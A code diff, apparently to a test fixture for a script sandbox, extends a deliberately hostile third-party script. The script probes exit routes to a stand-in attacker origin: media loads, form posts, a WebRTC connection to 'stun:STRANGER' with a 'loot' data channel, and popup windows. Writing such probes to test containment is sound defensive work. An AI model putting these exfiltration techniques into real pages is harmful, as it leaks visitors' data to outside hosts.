@@ -1,6 +1,7 @@
 /**
  * The script of a vendor that has turned. It tells the vendor's own host what it got (`/found`), then tries to lead the
- * visitor away, and says when it has tried everything (`/end`). EVIL stands for the origin of a stranger.
+ * visitor away, and says when it has tried everything (`/end`). EVIL stands for the origin of a stranger,
+ * STRANGER for a host and port at which he waits for calls.
  */
 export const HOSTILE = `(async () => {
   const found = new Set();
@@ -58,6 +59,17 @@ export const HOSTILE = `(async () => {
     await quietly(() => add('video', { src: url('video') }));
     await quietly(() => add('form', { action: url('form'), method: 'post', target: add('iframe', { name: 'sink' }).name }).submit());
   }
+
+  await quietly(async () => {
+    const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:STRANGER' }] });
+    call.createDataChannel('loot');
+    await call.setLocalDescription(await call.createOffer());
+    await new Promise((resolve) => setTimeout(resolve, 1000));
+  });
+
+  await quietly(() => {
+    if (open('about:blank')) found.add('windows');
+  });
 
   await fetch('https://widgets.example/found', { method: 'POST', body: JSON.stringify([...found]) });
 
